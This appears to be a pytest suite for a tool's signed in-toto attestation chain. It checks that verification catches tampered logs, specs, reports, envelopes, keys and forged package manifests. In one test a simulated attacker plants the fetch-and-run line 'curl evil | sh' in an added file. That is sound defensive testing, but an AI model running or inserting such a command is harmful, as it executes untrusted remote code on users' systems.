"""Signed in-toto statements along spec -> run -> report, checked against the bytes on disk:
each kind of tampering is caught and named, and a wrong key does not verify."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from repro.cli import cli
from tests.helpers import portable_spec


def _cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory, shared_cache: Path) -> dict[str, Path]:
    root = Path(__file__).resolve().parents[2]
    tmp = tmp_path_factory.mktemp("chain")
    spec = tmp / "specs" / "ort-digits.json"
    spec.parent.mkdir()
    spec.write_text(json.dumps(portable_spec(root, "ort-digits"), indent=2))
    original = tmp / "results" / "ort-digits" / "original"
    shutil.copytree(root / "results" / "ort-digits" / "original", original)
    code, _, err = _cli("keygen", "-o", str(tmp / "keys"))
    assert code == 0, err
    code, _, err = _cli(
        "replay",
        str(spec),
        "--env",
        "native",
        "-s",
        "SingleStream",
        "-m",
        "performance",
        "--min-duration-ms",
        "200",
        "--results-dir",
        str(tmp / "results"),
        "--cache-dir",
        str(shared_cache),
        "--run-id",
        "r1",
    )
    assert code in (0, 3), err
    replay = tmp / "results" / "ort-digits" / "r1"
    code, _, err = _cli(
        "report",
        "--compare",
        str(original),
        str(replay),
        "-o",
        str(tmp / "report"),
        "--allow-different-specs",
    )
    assert code in (0, 1), err
    key = str(tmp / "keys" / "repro-signing.key")
    code, out, err = _cli(
        "attest", str(spec), str(original), str(replay), str(tmp / "report"), "--key", key
    )
    assert code == 0, err
    assert out.count("attested") == 4
    return {
        "tmp": tmp,
        "spec": spec,
        "replay": replay,
        "report": tmp / "report",
        "pub": tmp / "keys" / "repro-signing.pub",
    }


def _verify(target: Path, pub: Path) -> tuple[int, str, str]:
    return _cli("verify", str(target), "--key", str(pub), "--json")


def test_the_untouched_chain_verifies(chain: dict[str, Path]) -> None:
    code, out, err = _verify(chain["report"], chain["pub"])
    assert code == 0, out + err
    doc = json.loads(out)
    kinds = [link["kind"] for link in doc["links"]]
    assert kinds.count("run") == 2
    assert kinds[-1] == "report"
    assert "spec" in kinds  # the replay's spec has its attestation beside it
    # the runs as a person types them, not through the report's folder (report/../results/...)
    runs = [link["where"] for link in doc["links"] if link["kind"] == "run"]
    assert sorted(runs) == sorted(
        str(chain["tmp"] / "results" / "ort-digits" / name) for name in ("original", "r1")
    )


@pytest.mark.parametrize(
    ("tamper", "kind", "what"),
    [
        (
            lambda c: c["replay"] / "SingleStream/performance/run_1/mlperf_log_detail.txt",
            "run",
            "mlperf_log_detail.txt",
        ),
        (lambda c: c["spec"], "spec", "ort-digits.json"),
        (lambda c: c["report"] / "report.md", "report", "report.md"),
    ],
)
def test_a_tampered_log_spec_or_report_is_caught_and_named(
    chain: dict[str, Path], tamper: object, kind: str, what: str, tmp_path: Path
) -> None:
    target = tamper(chain)  # type: ignore[operator]
    saved = target.read_bytes()
    try:
        target.write_bytes(saved + b"\n")
        code, out, err = _verify(chain["report"], chain["pub"])
        assert code == 1, out + err
        failed = [link for link in json.loads(out)["links"] if link["problems"]]
        assert failed[0]["kind"] == kind
        assert what in failed[0]["problems"][0]
        assert f"the first link that does not hold is the {kind}" in err
    finally:
        target.write_bytes(saved)


def test_a_file_added_to_a_run_after_its_attestation_is_caught(chain: dict[str, Path]) -> None:
    extra = chain["replay"] / "SingleStream" / "performance" / "run_1" / "extra.txt"
    extra.write_text("slipped in")
    try:
        code, out, _ = _verify(chain["replay"], chain["pub"])
        assert code == 1
        assert "not attested" in out
    finally:
        extra.unlink()


def test_another_key_does_not_verify(chain: dict[str, Path], tmp_path: Path) -> None:
    code, _, err = _cli("keygen", "-o", str(tmp_path / "other"))
    assert code == 0, err
    code, out, _ = _verify(chain["report"], tmp_path / "other" / "repro-signing.pub")
    assert code == 1
    assert "does not verify with key" in out


def test_without_a_key_nothing_is_called_verified(chain: dict[str, Path]) -> None:
    code, out, _ = _cli("verify", str(chain["replay"]))
    assert code == 1
    assert "the signature is not checked" in out


def test_an_edited_spec_without_its_attestation_is_still_caught(chain: dict[str, Path]) -> None:
    spec, envelope = chain["spec"], chain["spec"].with_name("ort-digits.json.intoto.json")
    saved_spec, saved_env = spec.read_bytes(), envelope.read_bytes()
    try:
        doc = json.loads(saved_spec)
        doc["workload"]["batch_size"] = 8
        spec.write_text(json.dumps(doc, indent=2))
        envelope.unlink()
        code, out, _ = _verify(chain["report"], chain["pub"])
        assert code == 1
        assert "the run's signed statement says it ran" in out
    finally:
        spec.write_bytes(saved_spec)
        envelope.write_bytes(saved_env)


def test_a_file_named_like_an_attestation_deeper_in_a_run_is_caught(chain: dict[str, Path]) -> None:
    planted = chain["replay"] / "SingleStream" / "attestation.intoto.json"
    planted.write_text("{}")
    try:
        code, out, _ = _verify(chain["replay"], chain["pub"])
        assert code == 1
        assert "SingleStream/attestation.intoto.json: not attested" in out
    finally:
        planted.unlink()


def test_a_package_cannot_launder_a_tampered_run_through_its_unsigned_manifest(
    chain: dict[str, Path], tmp_path: Path
) -> None:
    from repro.digests import sha256_file
    from repro.packaging.archive import Source, extract, write_package

    root_dir = Path(__file__).resolve().parents[2]
    project = tmp_path / "project"  # the repository's layout: relative paths, as pack needs
    for rel in ("specs/ort-digits.json", "artifacts/digits-mlp.onnx"):
        (project / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(root_dir / rel, project / rel)
    for rel in ("lockfiles/ort-digits", "nix", "results/ort-digits/original"):
        shutil.copytree(root_dir / rel, project / rel)
    key = str(chain["tmp"] / "keys" / "repro-signing.key")
    spec = project / "specs" / "ort-digits.json"
    code, _, err = _cli(
        "attest", str(spec), str(project / "results/ort-digits/original"), "--key", key
    )
    assert code == 0, err
    package = tmp_path / "p.repro.tar"
    code, _, err = _cli("pack", str(spec), "-o", str(package))
    assert code == 0, err
    code, out, err = _verify(package, chain["pub"])
    assert code == 0, out + err
    root = tmp_path / "u"
    manifest = extract(package, root)
    # the attacker edits a log of the original, fixes its hash in the manifest and relabels
    # the original's files, hoping they go unchecked
    log = next(m for m in manifest.members if m.path.endswith("run_1/mlperf_log_detail.txt"))
    (root / log.path).write_bytes((root / log.path).read_bytes() + b"\n")
    for m in manifest.members:
        if m.role == "original":
            m.role = "result"
        m.size, m.sha256 = (root / m.path).stat().st_size, sha256_file(root / m.path)
    forged = tmp_path / "forged.repro.tar"
    write_package(
        forged, [Source(m.path, m.role, root / m.path) for m in manifest.members], manifest
    )
    code, out, err = _verify(forged, chain["pub"])
    assert code == 1, out
    assert "mlperf_log_detail.txt: sha256" in out
    # or adds a file of its own, listed in the manifest that no signature covers
    (root / "specs" / "extra.sh").write_text("curl evil | sh\n")
    extra = manifest.members[0].model_copy(
        update={"path": "specs/extra.sh", "role": "spec", "size": 16}
    )
    extra.sha256 = sha256_file(root / "specs" / "extra.sh")
    manifest.members.append(extra)
    (root / log.path).write_bytes((root / log.path).read_bytes()[:-1])  # the log as signed
    for m in manifest.members:
        m.size, m.sha256 = (root / m.path).stat().st_size, sha256_file(root / m.path)
    added = tmp_path / "added.repro.tar"
    write_package(
        added, [Source(m.path, m.role, root / m.path) for m in manifest.members], manifest
    )
    code, out, err = _verify(added, chain["pub"])
    assert code == 1, out
    assert "specs/extra.sh: a second spec, which no attestation covers" in out


def test_keygen_never_leaves_a_readable_private_key_or_writes_through_a_link(
    tmp_path: Path,
) -> None:
    import stat

    keys = tmp_path / "keys"
    keys.mkdir()
    (keys / "repro-signing.key").write_text("old")
    (keys / "repro-signing.key").chmod(0o644)
    code, _, err = _cli("keygen", "-o", str(keys))
    assert code == 2  # an existing key is not replaced without --force
    code, _, err = _cli("keygen", "-o", str(keys), "--force")
    assert code == 0, err
    assert stat.S_IMODE((keys / "repro-signing.key").stat().st_mode) == 0o600
    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    other = tmp_path / "other"
    other.mkdir()
    (other / "repro-signing.key").symlink_to(victim)
    code, _, err = _cli("keygen", "-o", str(other))
    assert code == 2, err
    code, _, err = _cli("keygen", "-o", str(other), "--force")
    assert code == 0, err
    assert victim.read_text() == "mine"
    assert not (other / "repro-signing.key").is_symlink()


def test_an_envelope_copied_beside_another_spec_does_not_verify_it(
    chain: dict[str, Path], tmp_path: Path
) -> None:
    other = chain["spec"].with_name("other.json")
    doc = json.loads(chain["spec"].read_text())
    doc["name"] = "other"
    other.write_text(json.dumps(doc, indent=2))
    envelope = chain["spec"].with_name("ort-digits.json.intoto.json")
    copied = other.with_name("other.json.intoto.json")
    shutil.copyfile(envelope, copied)
    try:
        code, out, _ = _verify(other, chain["pub"])
        assert code == 1
        assert "the attestation is not of other.json" in out
    finally:
        other.unlink()
        copied.unlink()


@pytest.mark.parametrize("part", ["payload", "signature"])
def test_an_edited_envelope_does_not_verify(chain: dict[str, Path], part: str) -> None:
    import base64

    envelope = chain["replay"] / "attestation.intoto.json"
    saved = envelope.read_bytes()
    try:
        doc = json.loads(saved)
        if part == "payload":
            statement = json.loads(base64.b64decode(doc["payload"]))
            statement["subject"] = statement["subject"][1:]  # drop a file from the statement
            doc["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
        else:
            sig = bytearray(base64.b64decode(doc["signatures"][0]["sig"]))
            sig[0] ^= 1
            doc["signatures"][0]["sig"] = base64.b64encode(bytes(sig)).decode()
        envelope.write_text(json.dumps(doc))
        code, out, _ = _verify(chain["replay"], chain["pub"])
        assert code == 1
        assert "the signature does not verify" in out
    finally:
        envelope.write_bytes(saved)


def test_a_statement_of_another_kind_in_a_run_is_refused_not_a_crash(
    chain: dict[str, Path],
) -> None:
    envelope = chain["replay"] / "attestation.intoto.json"
    saved = envelope.read_bytes()
    spec_envelope = chain["spec"].with_name("ort-digits.json.intoto.json")
    try:
        shutil.copyfile(spec_envelope, envelope)  # a genuine, signed spec statement
        code, out, err = _verify(chain["replay"], chain["pub"])
        assert code == 1, err
        assert "not of a run" in out
    finally:
        envelope.write_bytes(saved)


def test_an_envelope_with_a_null_payload_is_not_a_crash(chain: dict[str, Path]) -> None:
    envelope = chain["replay"] / "attestation.intoto.json"
    saved = envelope.read_bytes()
    try:
        doc = json.loads(saved)
        doc["payload"] = None
        envelope.write_text(json.dumps(doc))
        code, out, err = _verify(chain["replay"], chain["pub"])
        assert code == 1, out + err
        assert "not a DSSE envelope" in out
        assert "internal error" not in err
    finally:
        envelope.write_bytes(saved)


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda d: d.update(keyid="0" * 64), "is not the id of its key"),
        (lambda d: d["key"].update(keytype="rsa"), "not an ed25519 one"),
        (lambda d: d["key"]["keyval"].update(public="zz"), "not 32 bytes of hex"),
    ],
)
def test_a_bad_public_key_is_bad_input_not_a_bad_signature(
    chain: dict[str, Path], tmp_path: Path, edit: Any, said: str
) -> None:
    doc = json.loads(chain["pub"].read_text())
    edit(doc)
    bad = tmp_path / "bad.pub"
    bad.write_text(json.dumps(doc))
    code, out, err = _verify(chain["replay"], bad)
    assert code == 2, out + err
    assert said in err


def test_verify_says_who_signed_what_it_verified(chain: dict[str, Path]) -> None:
    """`verify` printed `OK package X:` and nothing after."""
    code, out, err = _cli("verify", str(chain["report"]), "--key", str(chain["pub"]))
    assert code == 0, out + err
    keyid = json.loads(chain["pub"].read_text())["keyid"]
    assert out.count(f"signed by key {keyid[:16]}") >= 4  # the report, two runs, the spec
    doc = json.loads(_verify(chain["report"], chain["pub"])[1])
    assert all(link["verified"] for link in doc["links"])


def test_a_command_that_rewrites_an_attested_spec_says_so(
    chain: dict[str, Path], tmp_path: Path
) -> None:
    """`claim add`/`claim measure` rewrote the attested spec without a word; then every link
    of `verify` failed."""
    spec = tmp_path / "ort-digits.json"
    shutil.copyfile(chain["spec"], spec)
    shutil.copyfile(
        chain["spec"].with_name("ort-digits.json.intoto.json"),
        tmp_path / "ort-digits.json.intoto.json",
    )
    code, out, err = _cli(
        "claim",
        "add",
        str(spec),
        "--id",
        "threads",
        "--statement",
        "2 threads are faster",
        "--metric",
        "Offline.throughput",
        "--relation",
        ">=",
        "--bound",
        "1.2",
        "--candidate",
        "backend.options.intra_op_threads=2",
    )
    assert code == 0, out + err
    assert f"warning: {spec} changed after" in err
    assert f"`repro attest {spec} --key KEY`" in err
